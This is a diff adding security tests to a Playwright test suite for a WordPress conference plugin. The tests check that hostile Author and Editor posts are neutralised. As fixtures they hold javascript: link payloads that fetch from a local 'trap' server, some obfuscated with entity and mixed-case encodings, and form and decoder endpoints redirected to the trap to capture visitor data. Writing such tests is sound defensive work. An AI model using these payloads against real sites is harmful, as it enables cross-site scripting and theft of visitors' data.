@@ -3,10 +3,15 @@
  * the plugin installed from its ZIP, an Author (no `unfiltered_html`) who saves a post with a raw
  * `<conf-schedule>`, a shortcode and the block through the REST API with an application password,
  * and the published post in headless Chromium with its data from `npm start`'s proxy.
+ * Then what a hostile Author or Editor tries (a `javascript:` href-pattern, a form or kiosk pointed
+ * at their own server; as a raw tag, with an entity, as a shortcode and as the block): no
+ * `javascript:` link in the page, and the trap server they named receives nothing.
  * Screenshots: `.tmp/screenshots/wordpress-*.png`.
  */
 import assert from 'node:assert/strict';
 import { mkdirSync } from 'node:fs';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { skippable } from '../skippable.js';
 import type { Browser, BrowserContext, Page } from 'playwright-core';
 import { startDemo, type StartedDemo } from '../../scripts/demo-server.js';
@@ -38,10 +43,69 @@ const POST_CONTENT = [
   '<!-- wp:shortcode -->[conf_page slug="about" show-conference]<!-- /wp:shortcode -->',
 ].join('\n');
 
+/**
+ * What a hostile post holds, each way a post can say it: site navigations whose links would run
+ * script (`fetch` to the trap, so a run is seen there), and a registration form, a provider and a
+ * kiosk that would send the visitor's data, or load the decoder, from the trap.
+ */
+function hostileContent(trap: string): string {
+  const run = (how: string) => `javascript:fetch('${trap}/ran-${how}')//{slug}`;
+  const block = (attributes: Record<string, string>) => `<!-- wp:conf-widgets/element ${JSON.stringify(attributes)} /-->`;
+  return [
+    '<!-- wp:html -->',
+    `<conf-site-nav href-pattern="${run('tag')}"></conf-site-nav>`,
+    `<conf-site-nav href-pattern="${run('entity').replace('javascript:', 'jav&#x61;script:')}"></conf-site-nav>`,
+    `<conf-site-nav href-pattern="${run('mixed-case').replace('javascript:', ' JaVaScRiPt&colon;')}"></conf-site-nav>`,
+    `<conf-registration-form endpoint="${trap}" data-prefill-email="tag@example.org"></conf-registration-form>`,
+    `<conf-provider endpoint="${trap}"><conf-registration-form></conf-registration-form></conf-provider>`,
+    `<conf-checkin decoder-wasm="${trap}/zxing_reader.wasm" endpoint="${trap}"></conf-checkin>`,
+    '<!-- /wp:html -->',
+    `<!-- wp:shortcode -->[conf_site_nav href-pattern="${run('shortcode')}"]<!-- /wp:shortcode -->`,
+    `<!-- wp:shortcode -->[conf_site_nav href-pattern="${run('shortcode-entity').replace('javascript:', 'jav&#x61;script:')}"]<!-- /wp:shortcode -->`,
+    `<!-- wp:shortcode -->[conf_registration_form endpoint="${trap}"]<!-- /wp:shortcode -->`,
+    `<!-- wp:shortcode -->[conf_checkin decoder-wasm="${trap}/zxing_reader.wasm"]<!-- /wp:shortcode -->`,
+    block({ element: 'conf-site-nav', 'href-pattern': run('block') }),
+    block({ element: 'conf-site-nav', 'href-pattern': run('block-entity').replace('javascript:', 'jav&#x61;script:') }),
+    block({ element: 'conf-registration-form', endpoint: trap }),
+  ].join('\n');
+}
+
+/** The attacker's server: answers everything (CORS open, as theirs would be) and remembers each request. */
+async function startTrap(): Promise<{ url: string; requests: string[]; close: () => Promise<void> }> {
+  const requests: string[] = [];
+  const server: Server = createServer((req, res) => {
+    requests.push(`${req.method} ${req.url}`);
+    res.writeHead(204, { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*', 'access-control-allow-methods': '*' });
+    res.end();
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  const { port } = server.address() as AddressInfo;
+  return { url: `http://127.0.0.1:${port}`, requests, close: () => new Promise((resolve) => server.close(() => resolve())) };
+}
+
+/** The conf-* start tags of some markup (shortcodes and block comments are not tags). */
+const confTags = (html: string): string[] => html.match(/<conf-[^>]*>/gi) ?? [];
+
+/** A small one-page PDF, as the registration's payment proof. */
+function proofPdf(): Buffer {
+  const objects = ['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>'];
+  let out = '%PDF-1.4\n';
+  const offsets: number[] = [];
+  objects.forEach((o, i) => {
+    offsets.push(out.length);
+    out += `${i + 1} 0 obj\n${o}\nendobj\n`;
+  });
+  const xref = out.length;
+  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((n) => `${String(n).padStart(10, '0')} 00000 n \n`).join('')}`;
+  out += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
+  return Buffer.from(out, 'latin1');
+}
+
 describe('WordPress plugin: an Author\'s post in Chromium', () => {
   let demo: StartedDemo;
   let wp: WordPress;
   let browser: Browser;
+  let trap: Awaited<ReturnType<typeof startTrap>>;
   let postId = 0;
   let postLink = '';
 
@@ -54,20 +118,109 @@ describe('WordPress plugin: an Author\'s post in Chromium', () => {
     });
     console.log(`# WordPress ${wp.version}, theme ${wp.theme}, at ${wp.url}; proxy at ${demo.url}`);
     browser = await launchChromium();
+    trap = await startTrap();
   });
   after(async () => {
+    await trap?.close();
     await browser?.close();
     await wp?.close();
     await demo?.close();
   });
 
-  /** The REST API as the Author, with the application password. */
-  function asAuthor(route: string, init: RequestInit = {}): Promise<Response> {
-    const auth = Buffer.from(`${wp.author}:${wp.authorAppPassword}`).toString('base64');
+  /** The REST API as a user, with their application password. */
+  function asUser(user: string, appPassword: string, route: string, init: RequestInit = {}): Promise<Response> {
+    const auth = Buffer.from(`${user}:${appPassword}`).toString('base64');
     return fetch(`${wp.url}/?rest_route=${route}`, {
       ...init,
       headers: { authorization: `Basic ${auth}`, 'content-type': 'application/json', ...init.headers },
     });
+  }
+  const asAuthor = (route: string, init: RequestInit = {}) => asUser(wp.author, wp.authorAppPassword, route, init);
+  const asEditor = (route: string, init: RequestInit = {}) => asUser(wp.editor, wp.editorAppPassword, route, init);
+
+  /** Publishes `content` as a user; the post's link and its stored and rendered content. */
+  async function publish(as: typeof asAuthor, title: string, content: string): Promise<{ link: string; raw: string; rendered: string }> {
+    const res = await as('/wp/v2/posts', { method: 'POST', body: JSON.stringify({ title, status: 'publish', content }) });
+    const created = (await res.json()) as { id: number; link: string };
+    assert.equal(res.status, 201, JSON.stringify(created));
+    const stored = (await (await as(`/wp/v2/posts/${created.id}&context=edit`)).json()) as { content: { raw: string; rendered: string } };
+    return { link: created.link, raw: stored.content.raw, rendered: stored.content.rendered };
+  }
+
+  /** What no rendered post may hold, whoever wrote it. */
+  function assertNothingHostileRendered(html: string): void {
+    const tags = confTags(html);
+    assert.ok(tags.length >= 10, `the post's conf-* tags are rendered: ${tags.length}`);
+    for (const tag of tags) {
+      assert.doesNotMatch(tag, /\sendpoint\s*=|\sdecoder-wasm\s*=/i, `no post chooses where data goes: ${tag}`);
+      assert.doesNotMatch(tag, /javascript|jav&#x61;script|&colon;/i, `no script address: ${tag}`);
+    }
+    assert.ok(!html.includes(trap.url), `the trap's address is nowhere in the page`);
+  }
+
+  /**
+   * The hostile post in Chromium: every navigation shows its pages, none as a `javascript:` link;
+   * clicking the first entry of each runs nothing; every element talks to the site's proxy only.
+   */
+  async function checkHostilePostInChromium(link: string, name: string): Promise<void> {
+    const context = await browser.newContext({ viewport: { width: 1280, height: 900 }, locale: 'en-US' });
+    try {
+      const page = await context.newPage();
+      const requests: string[] = [];
+      page.on('request', (r) => requests.push(r.url()));
+      await page.goto(link, { waitUntil: 'load' });
+      const navCount = await page.locator('conf-site-nav').count();
+      assert.equal(navCount, 7, 'the seven site navigations are on the page');
+      await page.waitForFunction(
+        () => [...document.querySelectorAll('conf-site-nav')].every((n) => (n.shadowRoot?.querySelectorAll('[part~="link"]').length ?? 0) > 0),
+        null,
+        { timeout: 60_000 },
+      );
+      // Every element's chunk loaded, so each reports the proxy it uses.
+      await page.waitForFunction(() => [...document.querySelectorAll('*')].filter((e) => e.localName.startsWith('conf-')).every((e) => customElements.get(e.localName)), null, { timeout: 60_000 });
+      await page.screenshot({ path: `${SHOTS}/wordpress-hostile-${name}.png`, fullPage: true });
+      const links = await page.evaluate(() =>
+        [...document.querySelectorAll('conf-site-nav')].map((n) =>
+          [...(n.shadowRoot?.querySelectorAll('a') ?? [])].map((a) => ({ href: a.getAttribute('href'), protocol: a.href ? a.protocol : null })),
+        ),
+      );
+      for (const nav of links) {
+        for (const a of nav) {
+          assert.doesNotMatch(a.href ?? '', /^\s*javascript/i);
+          if (a.protocol !== null) assert.ok(a.protocol === 'http:' || a.protocol === 'https:', `a link is http(s): ${JSON.stringify(a)}`);
+        }
+      }
+      const scriptLinks = await page.evaluate(
+        () => [...document.querySelectorAll('conf-site-nav')].reduce((n, nav) => n + (nav.shadowRoot?.querySelectorAll('a[href^="javascript" i]').length ?? 0), 0),
+      );
+      assert.equal(scriptLinks, 0, 'no a[href^=javascript] in any navigation');
+      const endpoints = await page.evaluate(() => ({
+        attributes: document.querySelectorAll('[endpoint], [decoder-wasm]').length,
+        used: [...new Set([...document.querySelectorAll('*')].filter((e) => e.localName.startsWith('conf-') && 'resolvedEndpoint' in e).map((e) => (e as unknown as { resolvedEndpoint: { url: string } }).resolvedEndpoint.url))],
+      }));
+      assert.deepEqual(endpoints, { attributes: 0, used: [demo.url] }, 'every element uses the site\'s proxy');
+
+      // A visitor (the site's administrator, say) clicks the first entry of each navigation. A
+      // click on an http(s) link is held back, so the page stays; any other link would run.
+      await page.evaluate(() =>
+        addEventListener('click', (e) => {
+          const a = (e.composedPath()[0] as Element).closest?.('a');
+          if (a?.href && /^https?:$/.test(a.protocol)) e.preventDefault();
+        }, true),
+      );
+      for (let i = 0; i < navCount; i++) {
+        const entry = page.locator('conf-site-nav').nth(i).locator('[part~="link"]').first();
+        await entry.scrollIntoViewIfNeeded();
+        await entry.click();
+      }
+      // What a click ran would have fetched the trap by now; give it a moment under load.
+      await page.waitForTimeout(1000);
+      assert.equal(page.url(), link, 'the page stayed');
+      assert.deepEqual(trap.requests, [], 'no script ran: the trap heard nothing');
+      assert.deepEqual(requests.filter((u) => u.startsWith(trap.url)), [], 'the browser sent nothing to the trap');
+    } finally {
+      await context.close();
+    }
   }
 
   async function logIn(context: BrowserContext, user: string): Promise<Page> {
@@ -247,6 +400,73 @@ describe('WordPress plugin: an Author\'s post in Chromium', () => {
     } finally {
       await context.close();
     }
+  });
+
+  test('an Author cannot make a javascript: link (tag, entity, shortcode, block): kses and the plugin drop it, the element would refuse it', async () => {
+    const { link, raw, rendered } = await publish(asAuthor, 'Hostile by an Author', hostileContent(trap.url));
+    // kses (the plugin's rules) already stripped the raw tags of what an Author may not set.
+    for (const tag of confTags(raw)) {
+      assert.doesNotMatch(tag, /\sendpoint\s*=|\sdecoder-wasm\s*=/i, `stored: ${tag}`);
+      assert.doesNotMatch(tag, /javascript|jav&#x61;script|&colon;/i, `stored: ${tag}`);
+    }
+    assertNothingHostileRendered(rendered);
+    assertNothingHostileRendered(await (await fetch(link)).text());
+    await checkHostilePostInChromium(link, 'author');
+  });
+
+  test('an Author cannot send a form\'s data elsewhere: endpoint and decoder-wasm never reach the page, and a registration goes to the site\'s proxy', async () => {
+    const { link } = await publish(asAuthor, 'Register (hostile)', [
+      '<!-- wp:html -->',
+      `<conf-registration-form endpoint="${trap.url}"></conf-registration-form>`,
+      '<!-- /wp:html -->',
+      `<!-- wp:shortcode -->[conf_checkin decoder-wasm="${trap.url}/zxing_reader.wasm"]<!-- /wp:shortcode -->`,
+    ].join('\n'));
+    const html = await (await fetch(link)).text();
+    assert.ok(!html.includes(trap.url), 'the trap\'s address is not in the page');
+    const context = await browser.newContext({ viewport: { width: 1280, height: 900 }, locale: 'en-US' });
+    try {
+      const page = await context.newPage();
+      const posts: string[] = [];
+      page.on('request', (r) => {
+        if (r.method() !== 'GET' && r.method() !== 'OPTIONS') posts.push(new URL(r.url()).origin);
+      });
+      await page.goto(link, { waitUntil: 'load' });
+      const form = 'conf-registration-form';
+      const field = (name: string) => page.locator(`${form} [name="${name}"]`);
+      await field('email').waitFor({ timeout: 60_000 });
+      await field('firstName').fill('Grace');
+      await field('lastName').fill('Hopper');
+      await field('email').fill('grace@example.org');
+      await field('ticketTypeId').selectOption({ index: 1 });
+      for (const name of ['custom.organization']) if (await field(name).count()) await field(name).fill('Navy');
+      if (await field('custom.tshirt_size').count()) await field('custom.tshirt_size').selectOption({ index: 1 });
+      await field('paymentMethodId').selectOption({ index: 1 });
+      if (await field('paymentReference').count()) await field('paymentReference').fill('TX-GRACE');
+      await page.locator(`${form} input[type="file"]`).setInputFiles({ name: 'receipt.pdf', mimeType: 'application/pdf', buffer: proofPdf() });
+      await page.locator(`${form} [part~="upload-done"]`).waitFor({ timeout: 60_000 });
+      await page.locator(`${form} [part~="submit-button"]`).click();
+      await page.locator(`${form} [part~="success"]`).waitFor({ timeout: 60_000 });
+      assert.ok(posts.length >= 2, `the upload and the registration were sent: ${posts.join(', ')}`);
+      assert.deepEqual([...new Set(posts)], [demo.url], 'every write went to the site\'s proxy');
+      assert.deepEqual(trap.requests, [], 'the trap received nothing');
+    } finally {
+      await context.close();
+    }
+  });
+
+  test('an Editor, who may save raw HTML, gets the same page: the plugin drops endpoint, decoder-wasm and script addresses when it renders', async () => {
+    const me = (await (await asEditor('/wp/v2/users/me&context=edit')).json()) as { roles: string[] };
+    assert.deepEqual(me.roles, ['editor']);
+    console.log(`# an Editor has unfiltered_html on this single site: ${wp.editorUnfilteredHtml}`);
+    const { link, raw, rendered } = await publish(asEditor, 'Hostile by an Editor', hostileContent(trap.url));
+    if (wp.editorUnfilteredHtml) {
+      // kses did not run: the raw tags are stored as written, so only the plugin's rendering stands between them and the page.
+      assert.match(raw, new RegExp(`endpoint="${trap.url}"`));
+      assert.match(raw, /href-pattern="javascript:/);
+    }
+    assertNothingHostileRendered(rendered);
+    assertNothingHostileRendered(await (await fetch(link)).text());
+    await checkHostilePostInChromium(link, 'editor');
   });
 
   test('no PHP warning or notice from the plugin', () => {
